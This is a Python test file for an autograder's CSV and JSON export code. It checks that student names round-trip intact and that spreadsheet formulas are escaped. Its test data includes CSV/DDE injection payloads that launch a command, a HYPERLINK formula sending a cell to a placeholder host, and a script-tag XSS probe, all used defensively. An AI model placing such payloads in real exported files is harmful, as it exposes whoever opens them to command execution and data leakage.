"""Exports read back by others: the csv module, json, and a spreadsheet's rules for formulas."""

import csv
import importlib
import io
import json
import subprocess
import sys

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from autograder.cli import main
from autograder.export import KINDS, CannotExport, Options, export, points, read_results
from autograder.export.spreadsheets import as_cell, as_text
from autograder.result import (
    ExerciseResult,
    QuestionResult,
    ResultDocument,
    SubmissionResult,
    Version,
    encode,
)

PS = "ps0_trial"
FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "'=1",
    "''=1",
    '=HYPERLINK("http://x/?"&A1,"me")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "\uff1d1+1",
    "\u00a0=1",
]
NAMES = [
    "s01",
    "O'Neill, Ann",
    'the "best"',
    "王小明",
    "Zoë\u0301",
    "a\nb",
    "a\r\nb, c",
    "; drop",
    "'quoted'",
    "",
    "1,024",
    "0123",
    "<script>alert(1)</script>",
    "\u202eslcatnem",
    "\ud800 half",
    "nul\0byte",
    *FORMULAS,
]


def submission(student, *, score=3.5, outcome="graded", **more):
    exercises = (
        ExerciseResult(name="softmax", outcome="passed", score=2.0, max_score=2.0),
        ExerciseResult(
            name="attend", outcome="failed", score=1 / 3, max_score=2.0, misconceptions=("a", "b")
        ),
    )
    questions = (QuestionResult(id="why", outcome="correct", score=1.0, max_score=1.0),)
    return SubmissionResult(
        **{
            "student": student, "file": f"{PS}.py", "sha256": "", "outcome": outcome,
            "isolation": "strong", "score": score, "max_score": 5.0, "seconds": 0.1,
            "exercises": exercises, "questions": questions, **more,
        }
    )  # fmt: skip


def document(*submissions):
    version = Version(package="0", exercises={})
    return ResultDocument(
        assignment=PS, seed="7", isolation="strong", version=version, submissions=submissions
    )


OURS = submission(
    "ours",
    score=None,
    outcome="infrastructure",
    exercises=(
        ExerciseResult(name="softmax", outcome="infrastructure", score=None, max_score=2.0),
        ExerciseResult(name="attend", outcome="passed", score=2.0, max_score=2.0),
    ),
)


def read_csv(data, **options):
    """Rows as dictionaries, by a reader that knows nothing of ours."""
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""), **options))


def written(kind, results, options=None):
    """The bytes of an export that leaves nobody out."""
    exported = export(kind, results, options)
    assert exported.left_out == ()
    return exported.data


class TestCsv:
    def test_a_table(self):
        data = written("csv", document(submission("s01", messages=("late", "twice")), OURS))
        assert data.decode().split("\r\n") == [
            "student,outcome,score,max_score,softmax,attend,q_why,misconceptions,messages,file,"
            "isolation",
            's01,graded,3.5,5,2,0.33,1,"attend: a, b",late; twice,ps0_trial.py,strong',
            "ours,infrastructure,,5,,2,1,,,ps0_trial.py,strong",
            "",
        ]

    @pytest.mark.parametrize("name", NAMES)
    def test_every_name_comes_back(self, name):
        first, second = read_csv(written("csv", document(submission(name), submission("next"))))
        lost = name.replace("\0", "\ufffd").replace("\ud800", "?")
        assert as_text(first["student"]) == lost
        assert first["score"] == "3.5" and second["student"] == "next"

    @pytest.mark.parametrize("text", FORMULAS)
    def test_nothing_is_a_formula(self, text):
        more = {"messages": (text,), "file": text}
        (row,) = read_csv(written("csv", document(submission(text, **more))))
        for column in ("student", "messages", "file"):
            assert row[column] == f"'{text}"

    @given(st.text(alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\0")))
    def test_any_text_comes_back_and_none_is_a_formula(self, text):
        cell = as_cell(text)
        assert as_text(cell) == text
        assert not cell.lstrip().startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20"))
        (row,) = read_csv(written("csv", document(submission(text))), strict=True)
        assert row["student"] == cell

    def test_a_class_of_rows_stays_one(self):
        rows = read_csv(written("csv", document(*map(submission, NAMES))), strict=True)
        assert len(rows) == len(NAMES)
        assert {len(row) for row in rows} == {11}

    def test_the_mark_for_excel(self):
        plain = written("csv", document(submission("王")))
        marked = written("csv", document(submission("王")), Options(byte_order_mark=True))
        assert marked == b"\xef\xbb\xbf" + plain
        reader = csv.reader(io.StringIO(marked.decode("utf-8-sig"), newline=""))
        assert next(reader)[0] == "student"

    def test_different_exercises_share_a_table(self):
        other = submission("other", exercises=(), questions=())
        first, second = read_csv(written("csv", document(submission("s01"), other)))
        assert (first["softmax"], second["softmax"], second["q_why"]) == ("2", "", "")


class TestJson:
    @pytest.mark.parametrize("name", [name for name in NAMES if "\ud800" not in name])
    def test_every_name_comes_back(self, name):
        found = json.loads(written("json", document(submission(name))))
        assert found["submissions"][0]["student"] == name

    def test_scores(self):
        found = json.loads(
            written("json", document(submission("s01"), OURS)),
            parse_constant=lambda text: pytest.fail(text),
        )
        assert found["assignment"] == PS
        first, ours = found["submissions"]
        assert first["exercises"] == {"softmax": 2.0, "attend": 0.33}
        assert first["misconceptions"] == {"attend": ["a", "b"]}
        assert (ours["score"], ours["exercises"]["softmax"], ours["questions"]) == (
            None,
            None,
            {"why": 1.0},
        )


@pytest.mark.parametrize(
    ("score", "digits"),
    [
        (None, ""), (0.0, "0"), (-0.0, "0"), (4.0, "4"), (1 / 3, "0.33"), (2.675, "2.67"),
        (1024.0, "1024"), (12345.67, "12345.67"), (1e6, "1000000"), (0.1 + 0.2, "0.3"),
        (100.0, "100"),
    ],
)  # fmt: skip
def test_points_are_rounded_once_and_have_no_thousands_separator(score, digits):
    assert points(score) == digits


def test_the_total_is_the_documents_and_not_a_sum_of_rounded_ones():
    thirds = tuple(
        ExerciseResult(name=f"e{i}", outcome="failed", score=1 / 3, max_score=1.0) for i in range(3)
    )
    (row,) = read_csv(written("csv", document(submission("s", score=1.0, exercises=thirds))))
    assert (row["score"], row["e0"]) == ("1", "0.33")


class TestTheCommand:
    @pytest.fixture
    def results(self, tmp_path):
        path = tmp_path / "results.json"
        path.write_bytes(encode(document(submission("=s"), OURS)))
        return path

    def run(self, *arguments):
        return subprocess.run(
            [sys.executable, "-m", "autograder.cli", "export", *map(str, arguments)],
            capture_output=True, check=False,
        )  # fmt: skip

    def test_to_standard_output_and_to_a_file(self, results, tmp_path):
        """Byte for byte: on no system are line ends or characters translated."""
        done = self.run("csv", PS, "--results", results, "--bom")
        assert done.returncode == 0
        assert done.stdout == written("csv", read_results(results, PS), Options(True))
        assert b"'=s,graded,3.5" in done.stdout
        target = tmp_path / "scores.csv"
        done = self.run("csv", PS, "--results", results, "--output", target)
        assert (done.returncode, target.read_bytes()) == (
            0,
            written("csv", read_results(results, PS)),
        )

    def refused(self, monkeypatch, capsys, *arguments):
        monkeypatch.setattr(sys, "argv", ["autograder", "export", *map(str, arguments)])
        with pytest.raises(SystemExit) as end:
            main()
        said = capsys.readouterr().err
        assert end.value.code == 2
        assert said.startswith("autograder: ") and said.count("\n") == 1
        return said

    def test_called_wrongly(self, results, monkeypatch, capsys, tmp_path):
        def refused(*arguments):
            return self.refused(monkeypatch, capsys, *arguments)

        assert "there is no export xls; there are: csv" in refused("xls", PS, "--results", results)
        assert "holds results of ps0_trial; name that set" in refused(
            "csv", "ps1", "--results", results
        )
        assert "csv needs --results" in refused("csv", PS)
        nothing = tmp_path / "nothing.json"
        assert f"autograder grade {PS} --json {nothing}" in refused("csv", PS, "--results", nothing)
        nothing.write_text("{}", "utf-8")
        assert "is no result document" in refused("csv", PS, "--results", nothing)
        nothing.write_text("[1", "utf-8")
        assert "is no result document" in refused("csv", PS, "--results", nothing)


def test_every_kind_is_registered_with_a_sentence_and_a_module():
    for kind, known in KINDS.items():
        assert known.what and importlib.import_module(f"autograder.export.{known.module}").write
        if known.made_of == "results" and not known.with_roster:
            assert export(kind, document(submission("s"))).data
    with pytest.raises(CannotExport):
        export("xls", document())


def test_a_document_of_another_schema(tmp_path):
    plain = msgspec.to_builtins(document(submission("s")))
    (tmp_path / "r.json").write_bytes(msgspec.json.encode({**plain, "schema": 2}))
    with pytest.raises(CannotExport, match="has schema 2"):
        read_results(tmp_path / "r.json", PS)
